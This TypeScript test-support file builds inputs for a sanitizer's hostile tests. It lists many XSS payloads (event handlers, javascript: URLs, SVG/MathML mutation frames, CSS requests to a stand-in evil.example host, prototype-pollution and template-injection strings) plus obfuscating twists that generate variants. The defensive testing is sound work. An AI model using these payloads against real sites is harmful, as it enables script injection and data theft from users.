/**
 * The inputs of all hostile tests: the corpora of this folder, further known attacks, and mutations that fast-check
 * generates from them, identical in each run. In a template `RUN` stands for code that must not run and `URL` for a
 * foreign address; `fill` puts the trial's number into both, so that a failure names its input.
 */
import fc from '../support/fast-check';
import { ADDRESSES } from './attacks';
import { CORPUS } from './drawings';
import { MARKUP } from './markup';
import { MUTATIONS } from './mutations';

const SEED = 16;

/** Turns an input of an older corpus into a template. */
export const templateOf = (text: string): string =>
  text
    .replaceAll(/(?:(?:window|parent)\.)*__ran ?= ?(?:\(window\.__ran\|\|0\)\+)?1/g, 'RUN')
    .replaceAll('https://evil.example', 'URL');

export const fill = (template: string, id: number): string =>
  template.replaceAll('RUN', `top.pwned=${id}`).replaceAll('URL', `https://evil.example/${id}`);

const sample = (each: fc.Arbitrary<string>, count: number): string[] => [
  ...new Set(fc.sample(each, { seed: SEED, numRuns: count })),
];

/** Elements that run code or send requests by themselves, in spellings that some filters have missed. */
const LIVE = [
  '<img src=x:x onerror=RUN>',
  '<img src="URL" onload="RUN" onerror="RUN">',
  '<img src=x:x onerror="alert(1)">',
  '<IMG """><IMG SRC=x:x ONERROR=RUN>',
  '<img/src/onerror=RUN>',
  '<img src=x:x onerror\u00a0=RUN onerror\n=\nRUN>',
  '<img srcset="URL 1x" sizes=100vw onerror=RUN>',
  '<image xlink:href="URL" onerror=RUN>',
  '<picture><source srcset="URL"><img src="URL"></picture>',
  '<svg onload=RUN>',
  '<svg><a xlink:href="javascript:RUN"><text y=20>x</text></a></svg>',
  '<svg><animate attributeName=href values="javascript:RUN"/><a id=x href=?><text>x</text></a></svg>',
  '<svg><a><set attributeName=href to="javascript:RUN"/><text>x</text></a></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=RUN>#x"/></svg>',
  '<svg><image href="URL"/><feImage href="URL"/></svg>',
  '<svg><script>RUN</script></svg>',
  '<svg><style>@import "URL";*{background:url(URL)}</style></svg>',
  '<svg><foreignObject><iframe src="javascript:RUN"></iframe></foreignObject></svg>',
  '<svg><discard onbegin=RUN /><animateTransform onbegin=RUN attributeName=transform dur=1ms /></svg>',
  '<math><maction actiontype="statusline#http://x" xlink:href="javascript:RUN">x</maction></math>',
  '<math href="javascript:RUN">x</math>',
  '<script>RUN</script>',
  '<script src=URL></script>',
  '<script type=module>RUN</script>',
  '<script async defer src=data:text/javascript,RUN></script>',
  '<iframe src="javascript:RUN"></iframe>',
  '<iframe srcdoc="<script>RUN</script>"></iframe>',
  '<iframe src="URL"></iframe>',
  '<frameset onload=RUN><frame src=URL>',
  '<object data="javascript:RUN"></object>',
  '<object data="URL" type="text/html"></object>',
  '<embed src="javascript:RUN"><embed src="URL">',
  '<applet code=x codebase=URL></applet>',
  '<video src=x:x onerror=RUN></video>',
  '<video poster="URL" src="URL" autoplay></video>',
  '<video><source src=x:x onerror=RUN></video>',
  '<audio src="URL" autoplay onloadstart=RUN></audio>',
  '<track src=URL default>',
  '<details open ontoggle=RUN>x</details>',
  '<input autofocus onfocus=RUN>',
  '<select autofocus onfocus=RUN></select>',
  '<textarea autofocus onfocus=RUN></textarea>',
  '<button popovertarget=x onclick=RUN>x</button><div popover id=x onbeforetoggle=RUN>x</div>',
  '<marquee onstart=RUN loop=1>x</marquee>',
  '<style onload=RUN></style>',
  '<style>@import url(URL);body{background:url(URL)}</style>',
  '<link rel=stylesheet href=URL onload=RUN onerror=RUN>',
  '<link rel=preload as=image href=URL><link rel=prefetch href=URL><link rel=modulepreload href=URL>',
  '<link rel=icon href=URL><link rel=manifest href=URL>',
  '<base href="URL/">',
  '<meta http-equiv=refresh content="0;url=javascript:RUN">',
  '<meta http-equiv=refresh content="0;url=URL">',
  '<meta http-equiv="content-security-policy" content="script-src \'none\'">',
  '<form action="javascript:RUN"><input type=submit value=x></form>',
  '<form id=f></form><button form=f formaction="javascript:RUN">x</button>',
  '<isindex action="javascript:RUN" type=image>',
  '<a href="javascript:RUN">x</a>',
  '<a href="&#x6a;avascript:RUN">x</a><a href="java&Tab;script:RUN">x</a><a href="java&NewLine;script&colon;RUN">x</a>',
  '<a href="data:text/html,<script>RUN</script>">x</a>',
  '<a href=x: ping=URL>x</a>',
  '<area href="javascript:RUN" shape=default>',
  '<body onload=RUN background=URL>',
  '<body onpageshow=RUN onhashchange=RUN onresize=RUN>',
  '<table background=URL><td background=URL>x</td></table>',
  '<div style="background:url(URL)">x</div>',
  '<div style="background-image:image-set(\'URL\' 1x);mask:url(URL);cursor:url(URL),auto">x</div>',
  '<div style="animation:x 1ms" onanimationstart=RUN onanimationend=RUN>x</div>',
  '<style>@keyframes x{}</style><p style="animation-name:x" onanimationend=RUN>x</p>',
  '<div onpointerenter=RUN onmouseover=RUN onclick=RUN onfocusin=RUN tabindex=0>x</div>',
  '<x-attack onclick=RUN></x-attack>',
  '<p is=x-attack onclick=RUN>x</p>',
  '<template><img src=x:x onerror=RUN></template>',
  '<div><template shadowrootmode=open><img src=x:x onerror=RUN><style>@import "URL"</style></template></div>',
  '<noscript><img src=x:x onerror=RUN></noscript>',
  '<noscript><p title="</noscript><img src=x:x onerror=RUN>"></noscript>',
  '<portal src=URL></portal><fencedframe src=URL></fencedframe>',
  '<input type=image src=URL onerror=RUN>',
  '<keygen autofocus onfocus=RUN>',
  '<dialog open onclose=RUN><form method=dialog><button autofocus>x</button></form></dialog>',
  '<xml id=x><i><b>&lt;img src=x:x onerror=RUN&gt;</b></i></xml>',
  '<a id=__proto__ name=constructor href=URL>x</a><img name=currentScript src=x:x>',
  '<form id=document><input name=cookie><input name=body><input name=getElementById></form>',
];

/** Markup that the next parser reads in another way; `*` is the position of the live element. */
const FRAMES = [
  '<svg>*</svg>',
  '<math>*</math>',
  '<svg><style>*</style></svg>',
  '<math><style>*</style></math>',
  '<svg><title>*</title></svg>',
  '<svg><desc>*</desc></svg>',
  '<svg><foreignObject>*</foreignObject></svg>',
  '<math><mtext>*</mtext></math>',
  '<math><mtext><table><mglyph><style><!--</style>*',
  '<math><annotation-xml encoding="text/html">*</annotation-xml></math>',
  '<form><math><mtext></form><form><mglyph><style></math>*',
  '<table>*</table>',
  '<table><tr><td>*',
  '<table><caption>*</table>',
  '<select>*</select>',
  '<template>*</template>',
  '<noscript>*</noscript>',
  '<noscript><p title="</noscript>*">',
  '<textarea><p title="</textarea>*">',
  '<title><p title="</title>*">',
  '<style><p title="</style>*">',
  '<svg></p><style><a id="</style>*">',
  '<xmp><p title="</xmp>*">',
  '<noembed><p title="</noembed>*">',
  '<iframe><p title="</iframe>*"></iframe>',
  '<!--><!-->*-->',
  '<!--!>*-->',
  '<![CDATA[>*]]>',
  '<svg><![CDATA[</svg>*]]></svg>',
  '<?xml >*?>',
  '</p>*<p>',
  '<b><p>*</b></p>',
  '<a><a>*</a>',
  '<div data-x="*">',
  "<div title='*'>x</div>",
  '<p>*',
  '"\'>*',
  '--!>*',
];
/** Small changes of the spelling, each of which some filter has missed. */
const TWISTS: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => text.replace(/<(\w+)/g, (_, name: string) => `<${name.toUpperCase()}`),
  (text) => text.replace(/<(\w+) /g, '<$1/'),
  (text) => text.replace(/<(\w+) /g, '<$1\f'),
  (text) => text.replace(/ on/g, ' \u0000on'),
  (text) => text.replace(/ on/g, '\nOn'),
  (text) => text.replace(/javascript:/g, ' \u0001JaVa\tScRiPt:'),
  (text) => text.replace(/>$/, ''),
  (text) => text.replace(/ (\w+)="([^"]*)"/g, " $1='$2'"),
  (text) => text.replace(/<(?=[a-z])/, '<<'),
  (text) => `${text}<!--`,
  (text) => text.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
];

const live = fc.oneof(fc.constantFrom(...LIVE), fc.constantFrom(...MUTATIONS));
const framed = fc
  .tuple(live, fc.array(fc.constantFrom(...FRAMES), { maxLength: 3 }), fc.constantFrom(...TWISTS))
  .map(([inner, frames, twist]) =>
    frames.reduce((text, frame) => frame.replace('*', () => text), twist(inner)),
  );

const OLD = [...Object.values(MARKUP), ...Object.values(CORPUS)].map(templateOf);
/** Longer inputs are tried once, in lanes with a place for each input. */
const SHORT = 4_000;

/** Known attacks by markup, without those that only take long because of their size. */
export const KNOWN: readonly string[] = [...LIVE, ...MUTATIONS, ...OLD].filter(
  ({ length }) => length < SHORT,
);
/** All known attacks and the generated ones. */
export const MARKUPS: readonly string[] = [...LIVE, ...MUTATIONS, ...OLD, ...sample(framed, 420)];
export const DRAWINGS: readonly string[] = Object.values(CORPUS).map(templateOf);

const spelt = fc
  .tuple(
    fc.constantFrom(
      'javascript:RUN',
      'vbscript:RUN',
      'data:text/html,<script>RUN</script>',
      'URL/x.jpg',
      '//evil.example/x',
    ),
    fc.constantFrom(
      '',
      ' ',
      '\t',
      '\n',
      '\u0000',
      '\u0001',
      '\u00a0',
      '\ufeff',
      'view-source:',
      'feed:',
      'jar:',
      'http:',
      './',
      '\\',
    ),
    fc.array(fc.tuple(fc.nat(10), fc.constantFrom('\t', '\n', '\r', '', '\u200b', '\u0000'))),
    fc.boolean(),
  )
  .map(([address, start, marks, isUpper]) => {
    const text = marks.reduce<string>(
      (done, [at, mark]) => done.slice(0, at) + mark + done.slice(at),
      address,
    );
    return start + (isUpper ? text.replace(/^[a-z]+/, (name) => name.toUpperCase()) : text);
  });
/** Addresses of code and of foreign hosts in several spellings. */
export const ADDRESS_LIST: readonly string[] = [
  ...Object.values(ADDRESSES).map(templateOf),
  ...sample(spelt, 120),
];

/** Texts without markup: selectors, patterns, names that lead to prototypes, keys of objects, code. */
export const WORDS: readonly string[] = [
  '__proto__',
  'constructor',
  'constructor.prototype',
  'prototype',
  'hasOwnProperty',
  'toString',
  '{"__proto__":{"innerHTML":"<img src=x:x onerror=RUN>","src":"URL"}}',
  '{"constructor":{"prototype":{"srcdoc":"<script>RUN</script>","url":"URL"}}}',
  '[{"__proto__":{"html":"<svg onload=RUN>"}}]',
  '*',
  'body',
  ':has(',
  '"],*,[x="',
  '#"><img src=x:x onerror=RUN>',
  '(a+)+$',
  '{{constructor.constructor("RUN")()}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: an attacker's text
  '${RUN}',
  "');RUN;('",
  '";RUN;"',
  'url(URL)',
  'red;background:url(URL)',
  'expression(RUN)',
  '}</style><script>RUN</script>',
  '\u0000',
  '',
  '-1e309',
  'NaN',
];
